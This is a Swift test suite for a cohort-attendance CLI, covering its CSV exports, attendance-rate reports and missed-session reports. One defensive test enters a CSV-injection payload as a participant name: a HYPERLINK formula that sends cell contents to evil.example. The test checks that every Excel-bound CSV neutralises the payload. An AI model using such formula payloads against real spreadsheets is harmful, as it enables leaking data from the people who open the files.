import Fieldbook
import FieldbookTestSupport
import Foundation
import Testing

/// Issue 11, items 5 and 6: exports people open in Excel, and the reports the office asks for.
struct ExportAndReportTests {
    static func bytes(_ path: String) throws -> [UInt8] { [UInt8](try Data(contentsOf: URL(fileURLWithPath: path))) }

    /// A day with marks: 李伟 present, Li Wei late, 王芳 absent, Chen Jie unmarked at
    /// Module 1; a webinar with 李伟 excused; a session in 2099 that is not held yet.
    static func markedDay() throws -> (FieldDay, webinar: String) {
        let day = try FieldDay()
        let cli = day.cli
        let webinar = FieldDay.short(
            try #require(
                try cli.object(
                    "event", "add", "--cohort", "NPQH Spring 2024", "--kind", "webinar", "--title", "Webinar 1",
                    "--starts", "2024-03-06T19:30")["id"] as? String))
        try cli.ok(
            "event", "add", "--cohort", "NPQH Spring 2024", "--kind", "webinar", "--title", "Future", "--starts",
            "2099-01-01T19:30")
        try cli.ok(
            "attend", day.module1, "--all", "present", "--except", "Li Wei", "late", "王芳", "absent", "Chen Jie",
            "unmarked")
        try cli.ok("attend", webinar, "1234567", "excused", "--remark", "school inspection")
        try cli.ok("note", "add", "--event", day.module1, "--participant", "王芳", "Asked to catch up")
        return (day, webinar)
    }

    @Test func attendanceCSVIsForExcelAndListsUnmarkedParticipants() throws {
        let (day, _) = try Self.markedDay()
        let cli = day.cli
        let file = cli.directory.path("attendance.csv")
        try cli.ok("export", "attendance", "--cohort", "NPQH Spring 2024", "-o", file)
        let bytes = try Self.bytes(file)
        #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF], "UTF-8 with a BOM")
        let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
        let lines = text.components(separatedBy: "\r\n")
        #expect(lines.last == "", "CRLF after every line")
        #expect(!text.replacingOccurrences(of: "\r\n", with: "").contains("\n"))
        #expect(
            lines[0]
                == "programme,cohort_id,cohort,event_id,event,kind,starts,zone,venue,venue_city,participant_id,participant,trn,school,city,status,remark,open_conflict"
        )
        // 4 participants × 3 events (the future one too: its marks are yet to come).
        #expect(lines.count - 2 == 12)
        #expect(
            lines.contains {
                $0.contains(
                    ",Module 1,face-to-face,2024-03-02T09:00,Asia/Shanghai,Shanghai Pudong Bilingual School,Shanghai,")
                    && $0.hasSuffix(",Chen Jie,,SPBS,,unmarked,,")
            })
        #expect(lines.contains { $0.contains(",李伟,1234567,SPBS,,excused,school inspection") })

        let marked = try cli.ok("export", "attendance", "--marked-only", "--plain")
        #expect(!marked.hasPrefix("\u{FEFF}") && !marked.contains("\r"), "--plain: no BOM, LF")
        #expect(marked.split(separator: "\n").count == 1 + 4, "3 marks at Module 1, 1 at the webinar")
        #expect(!marked.contains("unmarked"))
        let json = try cli.array("export", "attendance")
        #expect(json.count == 12 && json.filter { $0["status"] as? String == "unmarked" }.count == 8)
        #expect(json.first?["venue"] as? String == "Shanghai Pudong Bilingual School")
    }

    @Test func notesExportNamesEventsAndPeople() throws {
        let (day, _) = try Self.markedDay()
        let csv = try day.cli.ok("export", "notes", "--plain")
        let lines = csv.split(separator: "\n").map(String.init)
        #expect(
            lines.first
                == "id,cohort_id,cohort,event_id,event,event_starts,participant_id,participant,trn,author,created,body")
        #expect(lines.count == 2)
        #expect(lines[1].contains(",Spring 2024,"), "\(lines[1])")
        #expect(
            lines[1].contains(",Module 1,2024-03-02T09:00,")
                && lines[1].contains(",王芳,3456789,Wang Li (Shanghai laptop),"))
        #expect(lines[1].hasSuffix(",Asked to catch up"))
    }

    @Test func attendanceReportCountsRatesAndFlags() throws {
        let (day, _) = try Self.markedDay()
        let cli = day.cli
        let report = try cli.object("report", "attendance", "--cohort", "NPQH Spring 2024", "--threshold", "80")
        let lines = try #require(report["lines"] as? [[String: Any]])
        var byName: [String: [String: Any]] = [:]
        for line in lines { byName[line["participant"] as? String ?? "?"] = line }
        #expect(lines.count == 4)
        let li = try #require(byName["李伟"])
        #expect(li["held"] as? Int == 2 && li["present"] as? Int == 1 && li["excused"] as? Int == 1)
        #expect(li["rate"] as? Double == 100 && li["below_threshold"] as? Bool == false)
        let wang = try #require(byName["王芳"])
        #expect(wang["absent"] as? Int == 1 && wang["unmarked"] as? Int == 1 && wang["rate"] as? Double == 0)
        #expect(wang["below_threshold"] as? Bool == true)
        let chen = try #require(byName["Chen Jie"])
        #expect(chen["unmarked"] as? Int == 2 && chen["rate"] == nil && chen["below_threshold"] as? Bool == false)
        #expect((report["thresholds"] as? [[String: Any]])?.first?["source"] as? String == "option")

        // The readable table: columns aligned by display width (李伟 takes four cells).
        let table = try cli.ok("report", "attendance", "--cohort", "NPQH Spring 2024")
        let rows = table.split(separator: "\n").map(String.init)
        #expect(rows[0].hasPrefix("COHORT            NAME      TRN      HELD  PRESENT"), "\(table)")
        #expect(
            rows.contains {
                $0.hasPrefix(
                    "NPQH Spring 2024  李伟      1234567  2     1        0     0       1        0         100.0%")
            }, "\(table)")
        #expect(table.contains("NPQH: no attendance threshold is set; pass --threshold PERCENT to flag rates"))
        let flagged = try cli.ok("report", "attendance", "--threshold", "80")
        #expect(flagged.contains("below 80%") && flagged.contains("NPQH: threshold 80% (--threshold); 1 below it"))

        let csv = try cli.ok("report", "attendance", "--format", "csv", "--threshold", "80")
        #expect(
            csv.hasPrefix(
                "\u{FEFF}programme,cohort_id,cohort,participant_id,participant,trn,school,city,held,present,late,absent,excused,unmarked,rate,below_threshold\r\n"
            ))
        #expect(csv.contains(",王芳,3456789,SPBS,,2,0,0,1,0,1,0.0,yes\r\n"), "\(csv)")
        let bad = try cli.run(["report", "attendance", "--threshold", "120"])
        #expect(bad.exitCode == 65 && bad.stderr.contains("--threshold 120 must be a percentage"), "\(bad)")
    }

    @Test func missedReportListsAbsentExcusedAndUnmarked() throws {
        let (day, webinar) = try Self.markedDay()
        let cli = day.cli
        let table = try cli.ok("report", "missed", day.module1)
        #expect(
            table.hasPrefix("\"Module 1\" 2024-03-02T09:00 Asia/Shanghai — NPQH Spring 2024: 2 of 4 missed\n"),
            "\(table)")
        #expect(
            table.contains("王芳") && table.contains("absent") && table.contains("Chen Jie") && table.contains("unmarked")
        )
        #expect(!table.contains("李伟") && !table.contains("Li Wei"))
        let json = try cli.object("report", "missed", webinar)
        let lines = try #require(json["lines"] as? [[String: Any]])
        #expect(lines.count == 4, "the webinar: 李伟 excused, three unmarked")
        #expect(
            lines.contains { $0["status"] as? String == "excused" && $0["remark"] as? String == "school inspection" })
        let csv = try cli.ok("report", "missed", "Module 1", "--format", "csv", "--plain")
        #expect(csv.split(separator: "\n").count == 3)
        #expect(csv.hasPrefix("participant_id,participant,trn,school,city,email,status,remark\n"))
    }

    /// A name that is a spreadsheet formula must stay text in every CSV the CLI writes
    /// for Excel (OWASP's CSV-injection rule), and come out exactly with --plain.
    @Test func formulasInNamesAndRemarksAreDefusedInEveryCSV() throws {
        let day = try FieldDay()
        let cli = day.cli
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
        try cli.ok("participant", "add", "--cohort", "NPQH Spring 2024", "--name", formula, "--school", "@school")
        try cli.ok("attend", day.module1, "--all", "absent")
        try cli.ok("attend", day.module1, "1234567", "late", "--remark=-5 minutes, +traffic")
        try cli.ok("note", "add", "--event", day.module1, "=1+1 was on the board")
        let quoted = "\"'" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        for arguments in [
            ["export", "attendance"], ["export", "notes"], ["report", "attendance", "--format", "csv"],
            ["report", "missed", day.module1, "--format", "csv"],
        ] {
            let result = try cli.run(arguments)
            #expect(result.exitCode == 0, "\(arguments): \(result)")
            let records = try CSVReader.records(result.stdout).map(\.fields)
            let fields = records.dropFirst().flatMap { $0 }
            // No field a spreadsheet would run: each starts with none of = + - @ tab CR,
            // unless it is a number.
            for field in fields {
                if let first = field.first, "=+-@\t\r".contains(first) {
                    #expect(Double(field) != nil, "\(arguments): a live formula \(field.debugDescription)")
                }
            }
            if arguments[0] == "export" && arguments[1] == "notes" {
                #expect(fields.contains("'=1+1 was on the board"), "\(arguments)")
            } else {
                #expect(result.stdout.contains(quoted), "\(arguments): \(result.stdout)")
                #expect(fields.contains("'@school"), "\(arguments)")
            }
            if arguments == ["export", "attendance"] {
                #expect(fields.contains("'-5 minutes, +traffic"))
            }
            // --plain: for scripts, the values exactly as typed.
            let plain = try cli.run(arguments + ["--plain"])
            let plainFields = try CSVReader.records(plain.stdout).map(\.fields).dropFirst().flatMap { $0 }
            if arguments[1] == "notes" {
                #expect(plainFields.contains("=1+1 was on the board"))
            } else {
                #expect(plainFields.contains(formula), "\(arguments): \(plain.stdout)")
            }
        }
    }
}
